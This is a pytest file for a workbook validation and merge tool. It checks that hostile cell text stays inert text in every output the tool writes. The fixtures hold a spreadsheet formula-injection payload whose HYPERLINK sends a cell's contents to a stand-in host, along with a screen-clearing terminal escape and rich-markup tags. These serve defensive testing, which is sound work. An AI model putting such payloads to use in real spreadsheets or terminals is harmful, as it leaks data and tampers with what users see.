"""Every writer turns user text into text: the annotated copy, the add-in's result sheet,
the consolidated workbook and the reports. Nothing typed becomes a formula, rich markup or
a terminal escape sequence, and the JSON report is valid UTF-8 whatever the file names."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from malark import api
from malark.addin.results import result_table
from malark.cli import cli
from malark.core.findings import rule
from malark.core.text import display_path, printable

INJECTED = '=HYPERLINK("http://example.invalid/?"&_malark!B3,"Klicka här")'
MARKUP = "[/bold][red]röd[/red]"
ESCAPE_PLACEHOLDER = "ESCAPEHERE"


def _replace_in_parts(path: Path, old: bytes, new: bytes) -> Path:
    with zipfile.ZipFile(path) as package:
        parts = {n: package.read(n) for n in package.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data.replace(old, new))
    return path


@pytest.fixture(scope="module")
def hostile_text(filled_files, tmp_path_factory) -> Path:
    """BUN's filled Plan workbook with an id typed as a formula-looking text, rich markup
    and a terminal escape sequence (Excel stores ESC as `_x001B_`)."""
    path = tmp_path_factory.mktemp("hostile_text") / "Sjöberga_2027_Plan_BUN.xlsx"
    workbook = openpyxl.load_workbook(filled_files["plan"])
    cells = {"A2": INJECTED, "A3": MARKUP, "A4": f"BUN-{ESCAPE_PLACEHOLDER}[2J"}
    for address, text in cells.items():
        cell = workbook["Nämndmål"][address]
        cell.value = text
        cell.data_type = "s"  # typed as text (the cell shows the characters)
    workbook.save(path)
    return _replace_in_parts(path, ESCAPE_PLACEHOLDER.encode(), b"_x001B_")


def test_the_hostile_file_reads_as_typed(hostile_text):
    data = api.validate_files([hostile_text])[0].submission.data
    ids = [row[0] for row in data.rows["Nämndmål"][1:4]]
    assert ids == [INJECTED, MARKUP, "BUN-\x1b[2J"]


def test_annotated_copy_writes_quoted_text_as_text(hostile_text, tmp_path):
    reports = api.validate_files([hostile_text])
    copy = api.annotate(reports, tmp_path / "markerat")[0]
    sheet = openpyxl.load_workbook(copy)["Valideringsresultat"]
    quoted = [c for row in sheet.iter_rows(min_row=2) for c in row
              if isinstance(c.value, str) and c.value.startswith("=")]
    assert quoted and all(c.data_type == "s" for c in quoted)
    with zipfile.ZipFile(copy) as package:
        first_sheet = package.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in first_sheet and b"HYPERLINK" in first_sheet
    shown = " ".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value)
    assert "\x1b" not in shown and "␛[2J" in shown


def test_consolidated_workbook_keeps_the_id_as_text(plan_set, hostile_text, tmp_path):
    model, returned = plan_set
    inbox = tmp_path / "in"
    inbox.mkdir()
    for path in returned.glob("*.xlsx"):
        if not path.name.endswith("_BUN.xlsx"):
            (inbox / path.name).write_bytes(path.read_bytes())
    (inbox / hostile_text.name).write_bytes(hostile_text.read_bytes())
    result = api.merge([inbox], model_path=model, out=tmp_path / "samman.xlsx", skip_invalid=True)
    assert result.output is not None
    with zipfile.ZipFile(result.output) as package:
        xml = b"".join(package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/"))
    assert b"HYPERLINK" in xml and b"<f>HYPERLINK" not in xml


def test_text_report_prints_markup_and_escapes_as_typed(hostile_text):
    run = CliRunner().invoke(cli, ["validate", str(hostile_text)])
    assert run.exit_code in (0, 1), run.output
    assert "\x1b" not in run.output
    assert "[/bold]" in run.output and "␛[2J" in run.output
    assert "Traceback" not in run.output


def test_merge_text_report_survives_markup(plan_set, hostile_text, tmp_path):
    model, _ = plan_set
    run = CliRunner().invoke(cli, ["merge", str(hostile_text), "--model", str(model), "-o",
                                   str(tmp_path / "s.xlsx"), "--skip-invalid"])
    assert run.exit_code in (0, 1), run.output
    assert "\x1b" not in run.output and "Internt fel" not in run.output


def test_result_sheet_of_the_addin_keeps_text_as_text():
    findings = [rule("K006").finding(file="f", sheet="Nämndmål", cell="A2", ref=INJECTED,
                                     id=INJECTED, problem="följer inte mönstret", example="BUN-1"),
                rule("K006").finding(file="f", sheet="Nämndmål", cell="A3", ref="1/2",
                                     id="1/2", problem="följer inte mönstret", example="BUN-1")]
    table = result_table(findings, ["Nämndmål"], datetime(2027, 4, 1))
    refs = [row[4] for row in table[1:]]
    assert refs == ["'" + INJECTED, "'1/2"]  # Excel hides the apostrophe and keeps the text
    assert all(row[3].startswith("=HYPERLINK(") for row in table[1:])  # only malark's own links


def test_printable_shows_control_characters_and_direction_overrides():
    assert printable("a\x1b[2Jb\u202ec\x07\td\n") == "a␛[2Jb<U+202E>c␇\td\n"


def test_display_path_of_a_name_that_is_not_utf8():
    name = os.fsdecode(b"Sj\xf6berga_2027_Plan_BUN.xlsx")
    shown = display_path(name)
    assert shown == "Sj\ufffdberga_2027_Plan_BUN.xlsx"
    shown.encode("utf-8")  # valid


@pytest.mark.skipif(sys.platform == "win32", reason="file names are UTF-16 on Windows")
def test_json_is_valid_utf8_whatever_the_file_names(filled_files, tmp_path):
    """A name that is not UTF-8 (a Windows zip unpacked on Linux): validate --format json
    prints one valid UTF-8 JSON document naming it with U+FFFD."""
    folder = tmp_path / "inkommet"
    folder.mkdir()
    raw_name = os.fsencode(folder) + b"/Sj\xf6berga_BUN.xlsx"
    with open(raw_name, "wb") as handle:
        handle.write(filled_files["plan"].read_bytes())
    run = subprocess.run([sys.executable, "-m", "malark", "validate", str(folder), "--format", "json"],
                         capture_output=True, timeout=120,
                         env={**os.environ, "LC_ALL": "C", "PYTHONIOENCODING": "latin-1"})
    assert run.returncode in (0, 1), run.stderr
    document = json.loads(run.stdout.decode("utf-8"))
    assert document["files"][0]["file"].endswith("Sj\ufffdberga_BUN.xlsx")
    assert b"Traceback" not in run.stderr


def test_annotated_copy_links_at_most_max_links(filled_files, tmp_path, monkeypatch):
    from malark.validate import annotate

    monkeypatch.setattr(annotate, "MAX_LINKS", 3)
    findings = [rule("M003").finding(file="f", sheet="Nämndmål", cell=f"E{row}")
                for row in range(2, 12)]
    copy = annotate.annotate_workbook(filled_files["plan"], findings, tmp_path / "ut")
    sheet = openpyxl.load_workbook(copy)["Valideringsresultat"]
    assert sheet.max_row == 11
    assert len([c for row in sheet.iter_rows(min_row=2) for c in row if c.hyperlink]) == 3
